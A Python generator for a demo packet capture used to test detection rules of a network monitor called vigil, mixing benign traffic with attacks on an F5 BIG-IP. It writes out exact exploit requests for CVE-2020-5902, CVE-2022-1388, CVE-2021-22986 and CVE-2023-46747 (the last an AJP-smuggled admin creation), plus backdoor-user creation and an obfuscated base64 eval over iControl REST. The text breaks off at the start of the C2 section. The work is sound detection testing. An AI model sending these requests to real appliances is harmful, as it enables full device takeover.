#!/usr/bin/env python3
"""Writes pcaps/demo/demo.pcap and pcaps/demo/expected.json.

The demo capture: ordinary traffic around a BIG-IP (web sessions, DNS, TLS to a
virtual server, an admin using the management interface) with the threats the shipped
rules are for mixed in: exploitation of the management plane (CVE-2020-5902,
CVE-2022-1388, CVE-2021-22986, CVE-2023-46747), post-exploitation through iControl REST,
an internet scanner reaching the management interface, a persistence cookie leaking a
pool member's private address, and a BRICKSTORM-like implant calling home (DoH, a
workers.dev front, the WebSocket C2 path to a published C2 address). README.md beside
this file describes it packet group by packet group.

The alerts are declared here per session, next to the traffic that raises them, then
checked against what vigil reports for the written bytes with the shipped rules and
pcaps/estate.yaml (the estate the demo runs with): the script stops with an error when
the two disagree, or when a flow's counters differ from what the generator recorded.

Deterministic: run it twice, get the same bytes.
    python3 pcaps/demo/make_demo.py [--vigil build/vigil]
"""

import argparse
import json
import os
import struct
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, "pcaps", "tools"))

import pcapgen as pg  # noqa: E402

sys.path.insert(0, os.path.join(ROOT, "pcaps", "threat"))
import estate  # noqa: E402

ESTATE = os.path.join(ROOT, "pcaps", "estate.yaml")

# ---------------------------------------------------------------------------
# the network

BIGIP_MGMT = "10.1.1.245"           # management address (TMUI, iControl REST)
BIGIP_MGMT6 = "2001:db8:f5::245"    # its IPv6 management address
BIGIP_VIP = "10.1.20.10"            # virtual server www.example.com / portal.example.com
DNS_SERVER = "10.1.10.53"
WEB1 = "10.1.30.80"                 # intranet.example.org
WEB2 = "10.1.30.81"                 # api.example.org
CLIENT1 = "10.1.50.21"
CLIENT2 = "10.1.50.22"
ADMIN = "10.1.5.10"                 # administrator's workstation
EXT_CLIENT = "198.51.100.23"        # a customer on the internet
ATTACKER1 = "203.0.113.66"
ATTACKER2 = "198.51.100.77"
ATTACKER3 = "192.0.2.45"
ATTACKER6 = "2001:db8:bad::66"
SCANNER = "198.51.100.9"            # an internet-wide scanner

ROUTER_MAC = "02:00:5e:00:00:01"    # everything from outside arrives through the router
MACS = {
    BIGIP_MGMT: "02:f5:00:01:02:45", BIGIP_MGMT6: "02:f5:00:01:02:45",
    BIGIP_VIP: "02:f5:00:20:00:10", DNS_SERVER: "02:00:00:10:00:53",
    WEB1: "02:00:00:30:00:80", WEB2: "02:00:00:30:00:81",
    CLIENT1: "02:00:00:50:00:21", CLIENT2: "02:00:00:50:00:22", ADMIN: "02:00:00:05:00:10",
}

MGMT_VLAN = 100
UA_BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36")
UA_REQUESTS = "python-requests/2.32.3"
UA_CURL = "curl/8.5.0"

TOKEN = "DQ7MZ3LVRYB4NPKX2TAE6WHJ5S"  # 26 characters like an iControl REST token


def mac_of(addr):
    return MACS.get(addr, ROUTER_MAC)


class Demo:
    def __init__(self):
        self.cap = pg.Capture(pg.LINKTYPE_ETHERNET)
        self.flows = []      # (group, flow)
        self.expected = []   # (sid, flow name)
        self.cur_group = None

    def group(self, name, gap_ms=700):
        self.cur_group = name
        self.cap.advance(gap_ms * 1000)

    def link(self, client, server, vlans=()):
        return pg.EthernetLink(mac_of(client), mac_of(server), vlans)

    def tcp(self, name, client, server, vlans=(), **kw):
        s = pg.TcpSession(self.cap, self.link(client[0], server[0], vlans), client, server, name,
                          **kw)
        self.flows.append((self.cur_group, s))
        return s

    def udp(self, name, client, server):
        f = pg.UdpFlow(self.cap, self.link(client[0], server[0]), client, server, name)
        self.flows.append((self.cur_group, f))
        return f

    def icmp(self, name, client, server):
        f = pg.IcmpEchoFlow(self.cap, self.link(client, server), (client, None), (server, None),
                            name)
        self.flows.append((self.cur_group, f))
        return f

    def attack(self, session, request, sids, **kw):
        """Sends one request in one segment and records the alerts it must raise."""
        nums = session.send(request, ack=False, **kw)
        assert len(nums) == 1, "attack request %s does not fit one segment" % session.name
        self.expect(session.name, sids)
        return nums[0]

    def expect(self, name, sids):
        """Alerts the session raises besides those of its requests: replies, flowbit
        chains, exposure and behaviour detectors."""
        for sid in sids:
            self.expected.append((sid, name))


# ---------------------------------------------------------------------------
# payloads

def html_page(title, paragraphs):
    body = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n" \
        "<title>%s</title>\n<link rel=\"stylesheet\" href=\"/static/app.css\">\n</head>\n<body>\n" \
        "<h1>%s</h1>\n" % (title, title)
    for i in range(paragraphs):
        body += "<p id=\"p%d\">Section %d of the %s page. The service desk is open from " \
            "08:00 to 18:00; call extension 4400 or open a ticket in the portal.</p>\n" % (
                i, i + 1, title.lower())
    return (body + "</body>\n</html>\n").encode()


CSS = b"".join(b".c%d { margin: %dpx; padding: %dpx; color: #%06x; }\n" % (i, i % 9, i % 5,
                                                                           (i * 2654435) % 0xFFFFFF)
               for i in range(24))


def resp(status, reason, ctype, body, extra=()):
    hs = [("Date", "Wed, 15 Oct 2025 12:00:00 GMT"), ("Server", "Apache"),
          ("Content-Type", ctype)] + list(extra)
    return pg.http_response(status, reason, hs, body)


def mgmt_resp(status, reason, body, ctype="application/json; charset=UTF-8", extra=()):
    hs = [("Date", "Wed, 15 Oct 2025 12:00:00 GMT"), ("Server", "Jetty(9.2.22.v20170606)"),
          ("X-Frame-Options", "SAMEORIGIN"), ("Content-Type", ctype)] + list(extra)
    return pg.http_response(status, reason, hs, body)


TMUI_LOGIN_PAGE = html_page("BIG-IP&reg;- Configuration Utility", 3)


def ajp_string(s):
    b = s.encode()
    return len(b).to_bytes(2, "big") + b + b"\x00"


def ajp_forward_request_body(username, password):
    """The body of an AJP13 forward request as smuggled in CVE-2023-46747 (without
    the 0x1234 packet header and prefix code): protocol, request URI, remote
    address and host, server name and port, is_ssl, headers, attributes, and the
    form that creates an administrator."""
    form = ("_timenow=a&_timenow_before=&handler=%2ftmui%2fsystem%2fuser%2fcreate&&&"
            "form_page=%2ftmui%2fsystem%2fuser%2fcreate.jsp%3f&form_page_before=&"
            "hideObjList=&_bufvalue=vigil-demo-bufvalue&_bufvalue_before=&"
            "systemuser-hidden=[[\"Administrator\",\"[All]\"]]&systemuser-hidden_before=&"
            "name=" + username + "&name_before=&passwd=" + password +
            "&passwd_before=&finished=x&finished_before=").encode()
    b = ajp_string("HTTP/1.1") + ajp_string("/tmui/Control/form") + ajp_string("127.0.0.1") + \
        ajp_string("localhost") + ajp_string("localhost") + (443).to_bytes(2, "big") + b"\x00"
    b += (1).to_bytes(2, "big") + ajp_string("Tmui-Dubbuf") + ajp_string("VIGILDEMO00")
    b += b"\x0a" + ajp_string("REMOTEROLE") + ajp_string("0")  # attribute: req_attribute
    b += b"\x03" + ajp_string("admin")                          # attribute: remote_user
    b += b"\x05" + ajp_string(form.decode())                    # attribute: query_string
    b += b"\xff"                                                # end of attributes
    return b


def chunked(body, size=None):
    """One chunk of body (size in hex as given, default its length), then the last chunk."""
    n = len(body) if size is None else size
    return b"%x\r\n" % n + body + b"\r\n0\r\n\r\n"


# ---------------------------------------------------------------------------
# the traffic

def benign_dns(d):
    d.group("B1 DNS")
    queries = [
        (CLIENT1, 53001, 0x1a2b, "www.example.com", "A",
         [("www.example.com", "CNAME", 300, "portal.example.com"),
          ("portal.example.com", "A", 60, BIGIP_VIP)]),
        (CLIENT1, 53002, 0x1a2c, "portal.example.com", "AAAA",
         [("portal.example.com", "AAAA", 60, "2001:db8:f5::10")]),
        (CLIENT2, 53003, 0x2b01, "intranet.example.org", "A",
         [("intranet.example.org", "A", 3600, WEB1)]),
        (CLIENT2, 53004, 0x2b02, "api.example.org", "A",
         [("api.example.org", "A", 3600, WEB2)]),
    ]
    for client, port, qid, name, qtype, answers in queries:
        f = d.udp("B1-dns-%s-%s" % (name, qtype), (client, port), (DNS_SERVER, 53))
        f.send(pg.dns_query(qid, name, qtype), gap_us=15000)
        f.send(pg.dns_response(qid, name, qtype, answers), from_client=False, gap_us=900)


def benign_web(d):
    d.group("B2 HTTP intranet")
    s = d.tcp("B2-http-get", (CLIENT1, 49152), (WEB1, 80))
    s.handshake()
    s.send(pg.http_request("GET", "/", "intranet.example.org",
                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
                            ("Accept-Language", "en-US,en;q=0.9"), ("Connection", "keep-alive")]),
           ack=False)
    s.send(resp(200, "OK", "text/html; charset=utf-8", html_page("Intranet", 24)),
           from_client=False, think_us=2500)
    s.send(pg.http_request("GET", "/static/app.css", "intranet.example.org",
                           [("User-Agent", UA_BROWSER), ("Accept", "text/css"),
                            ("Referer", "http://intranet.example.org/"),
                            ("Connection", "keep-alive")]), ack=False)
    s.send(resp(200, "OK", "text/css", CSS), from_client=False, think_us=900)
    s.close(from_client=True)

    d.group("B3 HTTP API")
    s = d.tcp("B3-http-post", (CLIENT2, 49153), (WEB2, 80))
    s.handshake()
    order = b'{"customer":"C-1042","items":[{"sku":"LB-2000","qty":2},{"sku":"SSL-ADD","qty":1}],' \
        b'"note":"renewal; see contract 2025/17"}'
    s.send(pg.http_request("POST", "/api/v1/orders", "api.example.org",
                           [("User-Agent", UA_REQUESTS), ("Accept", "application/json"),
                            ("Content-Type", "application/json"), ("Connection", "keep-alive")],
                           order), ack=False)
    s.send(resp(201, "Created", "application/json", b'{"id":1042,"status":"created"}',
                [("Location", "/api/v1/orders/1042")]), from_client=False, think_us=4000)
    s.send(pg.http_request("GET", "/api/v1/orders/1042", "api.example.org",
                           [("User-Agent", UA_REQUESTS), ("Accept", "application/json"),
                            ("Connection", "close")]), ack=False)
    s.send(resp(200, "OK", "application/json",
                b'{"id":1042,"customer":"C-1042","status":"created","total":"12400.00"}',
                [("Connection", "close")]), from_client=False, think_us=1500)
    s.close(from_client=False)

    d.group("B4 HTTP login form")
    s = d.tcp("B4-http-login", (CLIENT2, 49154), (WEB1, 80))
    s.handshake()
    s.send(pg.http_request("GET", "/app/login.jsp;jsessionid=0A1B2C3D4E5F", "intranet.example.org",
                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
                            ("Connection", "keep-alive")]), ack=False)
    s.send(resp(200, "OK", "text/html; charset=utf-8", html_page("Sign in", 2)),
           from_client=False, think_us=1800)
    s.send(pg.http_request("POST", "/app/login.jsp", "intranet.example.org",
                           [("User-Agent", UA_BROWSER), ("Referer", "http://intranet.example.org/app/login.jsp"),
                            ("Content-Type", "application/x-www-form-urlencoded"),
                            ("Connection", "keep-alive")],
                           b"username=jdoe&password=Winter%3B2025%21&next=..%2Fhome"), ack=False)
    s.send(resp(302, "Found", "text/html", b"", [("Location", "/app/home"),
                                                   ("Set-Cookie", "JSESSIONID=9F8E7D6C; Path=/app; HttpOnly")]),
           from_client=False, think_us=3000)
    s.close(from_client=True)


def tls_session(d, name, client, sni, alpn, label, resp_len):
    s = d.tcp(name, client, (BIGIP_VIP, 443), rtt_us=18000 if client[0] == EXT_CLIENT else 800)
    s.handshake()
    s.send(pg.tls_client_hello(sni, alpn=alpn, label=label + "/ch"), ack=False)
    flight = pg.tls_server_hello(0x1302, label=label + "/sh") + pg.tls_change_cipher_spec() + \
        pg.tls_application_data(2870, label + "/hs-enc")
    s.send(flight, from_client=False, think_us=1200)
    s.send(pg.tls_change_cipher_spec() + pg.tls_application_data(53, label + "/fin") +
           pg.tls_application_data(210, label + "/req"), ack=False)
    s.send(pg.tls_application_data(250, label + "/ticket") +
           pg.tls_application_data(resp_len, label + "/resp"), from_client=False, think_us=3000)
    s.send(pg.tls_application_data(19, label + "/close-notify"), ack=False)
    s.close(from_client=True)


def benign_tls(d):
    d.group("B5 TLS to the virtual server")
    tls_session(d, "B5-tls-internal", (CLIENT1, 49160), "www.example.com", ("h2", "http/1.1"),
                "b5", 2300)
    d.group("B6 TLS from the internet", gap_ms=300)
    tls_session(d, "B6-tls-external", (EXT_CLIENT, 51515), "portal.example.com", ("http/1.1",),
                "b6", 900)


def tls12_session(d, name, client, sni, label):
    """TLS 1.2: the server's certificate crosses in clear."""
    with open(os.path.join(HERE, "portal-cert.der"), "rb") as f:
        cert = f.read()
    s = d.tcp(name, client, (BIGIP_VIP, 443), rtt_us=18000)
    s.handshake()
    s.send(pg.tls_client_hello(sni, alpn=("http/1.1",), versions=(0x0303,), label=label + "/ch"),
           ack=False)
    flight = pg.tls_server_hello(0xC02B, version=0x0303, alpn="http/1.1", label=label + "/sh") + \
        pg.tls_certificate([cert]) + pg.tls_server_hello_done()
    s.send(flight, from_client=False, think_us=1500)
    s.send(pg.tls_record(22, det_kex(label)) + pg.tls_change_cipher_spec() +
           pg.tls_record(22, pg.det_bytes(label + "/fin", 40)), ack=False)
    s.send(pg.tls_change_cipher_spec() + pg.tls_record(22, pg.det_bytes(label + "/sfin", 40)),
           from_client=False, think_us=900)
    s.send(pg.tls_application_data(420, label + "/req"), ack=False)
    s.send(pg.tls_application_data(1800, label + "/resp"), from_client=False, think_us=2500)
    s.close(from_client=True)


def det_kex(label):
    """ClientKeyExchange with an uncompressed P-256 point."""
    point = b"\x04" + pg.det_bytes(label + "/ecdhe", 64)
    return b"\x10" + struct.pack("!I", len(point) + 1)[1:] + bytes([len(point)]) + point


def benign_bigip_vip(d):
    d.group("B10 TLS 1.2 from the internet, certificate in clear", gap_ms=300)
    tls12_session(d, "B10-tls12-external", (EXT_CLIENT, 51530), "portal.example.com", "b8")
    d.group("B11 HTTP through the virtual server: persistence cookie")
    s = d.tcp("B11-http-vip", (EXT_CLIENT, 51531), (BIGIP_VIP, 80), rtt_us=18000)
    s.handshake()
    s.send(pg.http_request("GET", "/", "portal.example.com",
                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
                            ("Connection", "keep-alive")]), ack=False)
    s.send(resp(200, "OK", "text/html; charset=utf-8", html_page("Customer portal", 6),
                [("Set-Cookie", "BIGipServerpool_portal_http=1677787402.20480.0000; path=/; "
                                "Httponly"),
                 ("Set-Cookie", "TS01c3a5f2=01a2b3c4d5e6f708; Path=/")]),
           from_client=False, think_us=2200)
    s.send(pg.http_request("GET", "/account", "portal.example.com",
                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
                            ("Cookie", "BIGipServerpool_portal_http=1677787402.20480.0000; "
                                       "TS01c3a5f2=01a2b3c4d5e6f708"),
                            ("Connection", "keep-alive")]), ack=False)
    s.send(resp(200, "OK", "text/html; charset=utf-8", html_page("Your account", 3)),
           from_client=False, think_us=1900)
    s.close(from_client=True)


def benign_mgmt(d):
    d.group("B7 ICMP monitoring")
    f = d.icmp("B7-icmp-echo", ADMIN, BIGIP_MGMT)
    for seq in (1, 2):
        f.ping(seq, bytes(range(0x10, 0x10 + 48)), gap_us=1000000 if seq > 1 else 1000)

    d.group("B8 TMUI login by an administrator")
    s = d.tcp("B8-tmui-login", (ADMIN, 50001), (BIGIP_MGMT, 8443))
    s.handshake()
    s.send(pg.http_request("GET", "/tmui/login.jsp", "%s:8443" % BIGIP_MGMT,
                           [("User-Agent", UA_BROWSER), ("Accept", "text/html"),
                            ("Connection", "keep-alive")]), ack=False)
    s.send(resp(200, "OK", "text/html;charset=UTF-8", TMUI_LOGIN_PAGE), from_client=False,
           think_us=6000)
    s.send(pg.http_request("POST", "/tmui/logmein.html", "%s:8443" % BIGIP_MGMT,
                           [("User-Agent", UA_BROWSER),
                            ("Content-Type", "application/x-www-form-urlencoded"),
                            ("Referer", "https://%s:8443/tmui/login.jsp" % BIGIP_MGMT),
                            ("Connection", "keep-alive")],
                           b"username=admin&passwd=Secret-Passw0rd"), ack=False)
    s.send(resp(302, "Found", "text/html", b"",
                [("Location", "/tmui/tmui/login/welcome.jsp"),
                 ("Set-Cookie", "BIGIPAuthCookie=3FA85F6457174562B3FC2C963F66AFA6; path=/; Secure")]),
           from_client=False, think_us=9000)
    s.close(from_client=True)

    d.group("B9 iControl REST by automation", gap_ms=400)
    s = d.tcp("B9-icontrol-rest", (ADMIN, 50002), (BIGIP_MGMT, 8443))
    s.handshake()
    s.send(pg.http_request("POST", "/mgmt/shared/authn/login", "%s:8443" % BIGIP_MGMT,
                           [("User-Agent", UA_REQUESTS), ("Content-Type", "application/json"),
                            ("Connection", "keep-alive")],
                           b'{"username":"automation","password":"Aut0-Passw0rd",'
                           b'"loginProviderName":"tmos"}'), ack=False)
    s.send(mgmt_resp(200, "OK", ('{"username":"automation","loginProviderName":"tmos",'
                                 '"token":{"token":"%s","name":"%s","timeout":1200}}'
                                 % (TOKEN, TOKEN)).encode()), from_client=False, think_us=25000)
    # Connection before X-F5-Auth-Token: the rule for CVE-2022-1388 must not fire
    s.send(pg.http_request("GET", "/mgmt/tm/sys/version", "%s:8443" % BIGIP_MGMT,
                           [("User-Agent", UA_REQUESTS), ("Accept", "application/json"),
                            ("Connection", "keep-alive"), ("X-F5-Auth-Token", TOKEN)]), ack=False)
    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:sys:version:versionstats",'
                                b'"selfLink":"https://localhost/mgmt/tm/sys/version?ver=17.1.1",'
                                b'"entries":{"Product":"BIG-IP","Version":"17.1.1"}}'),
           from_client=False, think_us=8000)
    # real credentials: the base64 starts with YWRtaW46 too
    s.send(pg.http_request("POST", "/mgmt/tm/util/bash", "%s:8443" % BIGIP_MGMT,
                           [("User-Agent", UA_REQUESTS), ("Content-Type", "application/json"),
                            ("Authorization", "Basic YWRtaW46U2VjcmV0LVBhc3N3MHJk"),
                            ("Connection", "keep-alive")],
                           b'{"command":"run","utilCmdArgs":"-c \'tmsh show sys version\'"}'),
           ack=False)
    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:util:bash:runstate","command":"run",'
                                b'"commandResult":"Sys::Version\\nMain Package\\n  Product BIG-IP\\n"}'),
           from_client=False, think_us=40000)
    s.close(from_client=True)


MGMT_HOST = "%s:8443" % BIGIP_MGMT


def attacks_tmui(d):
    mgmt = MGMT_HOST

    d.group("A1 CVE-2020-5902 fileRead")
    s = d.tcp("A1-cve-2020-5902-fileread", (ATTACKER1, 41001), (BIGIP_MGMT, 8443), rtt_us=42000)
    s.handshake()
    d.attack(s, pg.http_request(
        "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", mgmt,
        [("User-Agent", UA_REQUESTS), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"),
         ("Connection", "keep-alive")]), [8400001])
    s.send(resp(200, "OK", "text/html; charset=utf-8",
                b'{"output":"root:x:0:0:root:/root:/bin/bash\\nbin:x:1:1:bin:/bin:/sbin/nologin\\n'
                b'daemon:x:2:2:daemon:/sbin:/sbin/nologin\\nf5_remoteuser:x:499:499::/home/'
                b'f5_remoteuser:/sbin/nologin\\n"}\n'), from_client=False, think_us=3000)
    s.close(from_client=True)

    d.group("A2 CVE-2020-5902 tmshCmd", gap_ms=900)
    s = d.tcp("A2-cve-2020-5902-tmshcmd", (ATTACKER1, 41002), (BIGIP_MGMT, 8443), rtt_us=42000)
    s.handshake()
    d.attack(s, pg.http_request(
        "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin",
        mgmt, [("User-Agent", UA_REQUESTS), ("Accept-Encoding", "gzip, deflate"),
               ("Accept", "*/*"), ("Connection", "keep-alive")]), [8400001, 8400006])
    s.send(resp(200, "OK", "text/html; charset=utf-8",
                b'{"error":"","output":"auth user admin {\\n    description \\"Admin User\\"\\n'
                b'    partition-access {\\n        all-partitions {\\n            role admin\\n'
                b'        }\\n    }\\n    shell tmsh\\n}\\n"}\n'), from_client=False, think_us=5000)
    s.close(from_client=True)


def attacks_tmui_more(d):
    mgmt = MGMT_HOST
    d.group("A3 CVE-2020-5902 encoded variants on port 80")
    s = d.tcp("A3-cve-2020-5902-encoded", (ATTACKER2, 42001), (BIGIP_MGMT, 80), rtt_us=35000)
    s.handshake()
    d.attack(s, pg.http_request(
        "GET", "/tmui/login.jsp/..%3b/tmui/locallb/workspace/fileRead.jsp?fileName=/config/bigip.conf",
        BIGIP_MGMT, [("User-Agent", UA_CURL), ("Accept", "*/*")]), [8400002])
    s.send(resp(200, "OK", "text/html; charset=utf-8",
                b'{"output":"#TMSH-VERSION: 17.1.1\\n\\nsys global-settings {\\n    hostname '
                b'bigip1.example.org\\n}\\n"}\n'), from_client=False, think_us=4000)
    d.attack(s, pg.http_request(
        "GET", "/tmui/login.jsp/%2e%2e%3b/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts",
        BIGIP_MGMT, [("User-Agent", UA_CURL), ("Accept", "*/*")]), [8400003])
    s.send(resp(200, "OK", "text/html; charset=utf-8",
                b'{"output":"127.0.0.1 localhost\\n10.1.1.245 bigip1.example.org\\n"}\n'),
           from_client=False, think_us=4000)
    s.close(from_client=True)

    d.group("A4 CVE-2020-5902 hsqldb")
    s = d.tcp("A4-cve-2020-5902-hsqldb", (ATTACKER3, 43001), (BIGIP_MGMT, 8443), rtt_us=60000)
    s.handshake()
    d.attack(s, pg.http_request("GET", "/hsqldb%0a", mgmt,
                                [("User-Agent", UA_REQUESTS), ("Accept", "*/*"),
                                 ("Connection", "keep-alive")]), [8400005])
    s.send(resp(200, "OK", "text/html",
                b"<html><head><title>HSQL Database Engine Servlet</title></head><body>"
                b"<h1>HSQL Database Engine Servlet</h1>The servlet is running.</body></html>\n"),
           from_client=False, think_us=2000)
    d.attack(s, pg.http_request("POST", "/hsqldb;", mgmt,
                                [("User-Agent", UA_REQUESTS), ("Accept", "*/*"),
                                 ("Content-Type", "application/octet-stream"),
                                 ("Connection", "keep-alive")],
                                b"\x00\x00\x00\x3f\x00\x00\x00\x01CALL \"java.lang.System.getProperty\""
                                b"('user.name')\x00\x00"), [8400004])
    s.send(resp(200, "OK", "application/octet-stream", b"\x00\x00\x00\x10\x00\x00\x00\x01root\x00"),
           from_client=False, think_us=2000)
    s.close(from_client=True)



def attacks_icontrol(d):
    mgmt = MGMT_HOST
    d.group("A5 CVE-2022-1388")
    s = d.tcp("A5-cve-2022-1388", (ATTACKER2, 42002), (BIGIP_MGMT, 8443), rtt_us=35000)
    s.handshake()
    d.attack(s, pg.http_request("POST", "/mgmt/tm/util/bash", mgmt, [
        ("User-Agent", UA_REQUESTS), ("Accept", "*/*"),
        ("Connection", "close, X-F5-Auth-Token, X-Forwarded-For, Local-Ip-From-Httpd, "
                       "X-F5-New-Authtok-Reqd, X-Forwarded-Server, X-Forwarded-Host"),
        ("Content-Type", "application/json"), ("X-F5-Auth-Token", "a"),
        ("Authorization", "Basic YWRtaW46")],
        b'{"command":"run","utilCmdArgs":"-c id"}'), [8400010, 8400011])
    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:util:bash:runstate","command":"run",'
                                b'"utilCmdArgs":"-c id","commandResult":"uid=0(root) gid=0(root) '
                                b'groups=0(root) context=system_u:system_r:initrc_t:s0\\n"}',
                     extra=[("Connection", "close")]), from_client=False, think_us=30000)
    s.close(from_client=False)

    d.group("A6 CVE-2022-1388 over IPv6")
    s = d.tcp("A6-cve-2022-1388-ipv6", (ATTACKER6, 44001), (BIGIP_MGMT6, 8443), rtt_us=50000)
    s.handshake()
    d.attack(s, pg.http_request("POST", "/mgmt/tm/util/bash", "[%s]:8443" % BIGIP_MGMT6, [
        ("User-Agent", UA_CURL), ("Accept", "*/*"),
        ("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", ""),
        ("Authorization", "Basic YWRtaW46"), ("Content-Type", "application/json")],
        b'{"command":"run","utilCmdArgs":"-c \'cat /config/bigip.conf\'"}'), [8400010, 8400011])
    s.send(mgmt_resp(401, "F5 Authorization Required",
                     b'{"code":401,"message":"X-F5-Auth-Token does not exist.",'
                     b'"referer":"2001:db8:bad::66","restOperationId":4413202,'
                     b'"kind":":resterrorresponse"}'), from_client=False, think_us=8000)
    s.close(from_client=True)

    d.group("A7 CVE-2021-22986")
    s = d.tcp("A7-cve-2021-22986", (ATTACKER3, 43002), (BIGIP_MGMT, 8443), rtt_us=60000)
    s.handshake()
    d.attack(s, pg.http_request("POST", "/mgmt/shared/authn/login", mgmt, [
        ("User-Agent", UA_REQUESTS), ("Accept", "*/*"), ("Content-Type", "application/json"),
        ("Connection", "keep-alive")],
        b'{"bigipAuthCookie":"","username":"admin","loginReference":{"link":'
        b'"https://localhost/mgmt/shared/gossip"},"userReference":{"link":'
        b'"https://localhost/mgmt/shared/authz/users/admin"}}'), [8400020])
    s.send(mgmt_resp(200, "OK", ('{"username":"admin","loginReference":{"link":'
                                 '"https://localhost/mgmt/shared/gossip"},"token":{"token":"%s",'
                                 '"userName":"admin","timeout":1200}}' % TOKEN[::-1]).encode()),
           from_client=False, think_us=20000)
    d.attack(s, pg.http_request("POST", "/mgmt/shared/authn/login", mgmt, [
        ("User-Agent", UA_REQUESTS), ("Accept", "*/*"), ("Content-Type", "application/json"),
        ("Connection", "keep-alive")],
        b'{"username":"admin","bigipAuthCookie":"","loginReference": {"link": '
        b'"http://127.0.0.1/shared/authz/tokens/indexing"}}'), [8400021])
    s.send(mgmt_resp(400, "Bad Request", b'{"code":400,"message":"request failed",'
                                         b'"kind":":resterrorresponse"}'),
           from_client=False, think_us=15000)
    s.close(from_client=True)

    d.group("A8 CVE-2023-46747 on the management VLAN")
    s = d.tcp("A8-cve-2023-46747-vlan", (ATTACKER1, 41003), (BIGIP_MGMT, 8443),
              vlans=(MGMT_VLAN,), rtt_us=42000)
    s.handshake()
    ajp = ajp_forward_request_body("vigiladm", "Vigil-Demo-2025")
    d.attack(s, pg.http_request("POST", "/tmui/login.jsp", mgmt, [
        ("User-Agent", UA_REQUESTS), ("Transfer-Encoding", "chunked, chunked"),
        ("Content-Type", "application/x-www-form-urlencoded")],
        chunked(ajp.ljust(0x204, b"\x00"))), [8400030, 8400031])
    s.send(resp(200, "OK", "text/html;charset=UTF-8", TMUI_LOGIN_PAGE), from_client=False,
           think_us=12000)
    s.close(from_client=True)


BIGIP_SELF_INT = estate.BIGIP_SELF_INT     # self IP on the internal VLAN
GO_UA = "Go-http-client/1.1"
WS_KEY = "dGhlIHNhbXBsZSBub25jZQ=="


def attacks_postexploit(d):
    """After A7's SSRF token: an account for the attacker and a shell command."""
    mgmt = MGMT_HOST
    d.group("P1 iControl REST post-exploitation with the stolen token")
    s = d.tcp("P1-rest-user-create", (ATTACKER3, 43003), (BIGIP_MGMT, 8443), rtt_us=60000)
    s.handshake()
    d.attack(s, pg.http_request("POST", "/mgmt/tm/auth/user", mgmt, [
        ("User-Agent", UA_REQUESTS), ("Content-Type", "application/json"),
        ("X-F5-Auth-Token", TOKEN[::-1]), ("Connection", "keep-alive")],
        b'{"name":"f5backup","password":"Vigil-Demo-2025!","partitionAccess":'
        b'[{"name":"all-partitions","role":"admin"}],"shell":"bash"}'), [])
    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:auth:user:userstate","name":"f5backup",'
                                b'"fullPath":"f5backup","shell":"bash"}'),
           from_client=False, think_us=9000)
    d.attack(s, pg.http_request("POST", "/mgmt/tm/util/bash", mgmt, [
        ("User-Agent", UA_REQUESTS), ("Content-Type", "application/json"),
        ("X-F5-Auth-Token", TOKEN[::-1]), ("Connection", "keep-alive")],
        b'{"command":"run","utilCmdArgs":"-c \'eval $(echo aWQ7dW5hbWUgLWE= | base64 -d)\'"}'),
        [])
    s.send(mgmt_resp(200, "OK", b'{"kind":"tm:util:bash:runstate","command":"run",'
                                b'"commandResult":"uid=0(root) gid=0(root)\\nLinux bigip1\\n"}'),
           from_client=False, think_us=30000)
    s.close(from_client=True)


def exposure_scan(d):
    d.group("E1 internet scanner probes the management interface")
    s = d.tcp("E1-scanner-authn-login", (SCANNER, 47001), (BIGIP_MGMT, 8443), rtt_us=80000)
    s.handshake()
    d.attack(s, pg.http_request("GET", "/mgmt/shared/authn/login", MGMT_HOST, [
        ("User-Agent", "Mozilla/5.0 (compatible; scanner/1.0)"), ("Accept", "*/*"),
        ("Connection", "close")]), [])
    s.send(mgmt_resp(401, "F5 Authorization Required",
                     b'{"code":401,"message":"Authorization failed: no user authentication header '
                     b'or token detected. Uri:http://localhost:8100/mgmt/shared/authn/login '
                     b'Referrer:198.51.100.9 Sender:198.51.100.9","referer":"198.51.100.9",'
                     b'"restOperationId":5102271,"kind":":resterrorresponse"}',
                     extra=[("Connection", "close")]), from_client=False, think_us=6000)
    s.close(from_client=False)


def brickstorm(d):
    """The implant on the appliance calls home: DoH lookups, a workers.dev front, and
    the GRIMBOLT WebSocket C2 from the internal self IP."""
    d.group("C1 DoH from the management address")
    f = d.udp("C1-dns-doh-bootstrap", (BIGIP_MGMT, 53110), (DNS_SERVER, 53))
    f.send(pg.dns_query(0x3c01, "dns.google", "A"), gap_us=15000)
    f.send(pg.dns_response(0x3c01, "dns.google", "A", [("dns.google", "A", 300, "8.8.8.8")]),
           from_client=False, gap_us=900)
    s = d.tcp("C1-doh-dns-google", (BIGIP_MGMT, 53111), ("8.8.8.8", 443), rtt_us=12000)
    s.handshake()
    s.send(pg.tls_client_hello("dns.google", alpn=("h2", "http/1.1"), label="c1/ch"), ack=False)
    s.send(pg.tls_server_hello(0x1301, label="c1/sh") + pg.tls_change_cipher_spec() +
           pg.tls_application_data(2600, "c1/hs-enc"), from_client=False, think_us=1500)
    s.send(pg.tls_change_cipher_spec() + pg.tls_application_data(53, "c1/fin") +
           pg.tls_application_data(120, "c1/query"), ack=False)
    s.send(pg.tls_application_data(180, "c1/answer"), from_client=False, think_us=2000)
    s.close(from_client=True)

    d.group("C2 C2 behind a Cloudflare Workers name", gap_ms=500)
